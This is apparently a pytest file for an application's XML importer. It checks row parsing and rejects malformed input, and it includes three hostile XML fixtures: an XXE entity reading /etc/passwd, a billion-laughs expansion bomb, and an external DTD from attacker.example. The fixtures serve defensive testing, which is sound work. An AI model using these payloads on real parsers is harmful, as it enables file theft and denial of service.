"""XML: the documented layout, per-row problems, and entity tricks refused before they expand."""

from __future__ import annotations

import pytest

from app.importers import ReaderError
from app.importers.readers import PROBLEM_KEY

PEOPLE_XML = """<?xml version="1.0" encoding="UTF-8"?>
<people xmlns="https://interchange.example/schema/people">
  <!-- exported by hand -->
  <person><email>zoe@example.com</email><name>Zoë &amp; co</name><phone/></person>
  <person><email>jo@example.com</email><note>a
b</note></person>
</people>"""


def test_xml_reader_reads_documented_layout(write, read_all):
    reader, rows = read_all(write("people.xml", PEOPLE_XML))
    assert reader.headers(None) == ["email", "name", "phone", "note"]
    assert rows == [
        (1, {"email": "zoe@example.com", "name": "Zoë & co", "phone": "", "note": ""}),
        (2, {"email": "jo@example.com", "name": "", "phone": "", "note": "a\nb"}),
    ]


def test_xml_reader_reports_field_with_child_elements_per_row(write, read_all):
    _, rows = read_all(write("nested.xml", "<people><person><email>a</email><address><city>Oslo</city></address>"
                                           "</person></people>"))
    assert rows[0][1][PROBLEM_KEY] == "field 'address' contains elements; expected plain text"


XXE = """<?xml version="1.0"?>
<!DOCTYPE people [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<people><person><email>&secret;</email></person></people>"""
BILLION_LAUGHS = '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n' + "\n".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
) + "\n]>\n<people><person><email>&lol9;</email></person></people>"
EXTERNAL_DTD = '<?xml version="1.0"?>\n<!DOCTYPE people SYSTEM "http://attacker.example/evil.dtd">\n<people/>'


@pytest.mark.parametrize("document", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_xml_reader_refuses_any_doctype(write, read_all, document):
    with pytest.raises(ReaderError, match="DOCTYPE are refused"):
        read_all(write("hostile.xml", document))


def test_xml_reader_refuses_malformed_xml_with_line(write, read_all):
    with pytest.raises(ReaderError, match="malformed at line 3") as caught:
        read_all(write("broken.xml", "<people>\n<person><email>a</email></person>\n<person><email>b</person>\n"))
    assert caught.value.row == 2
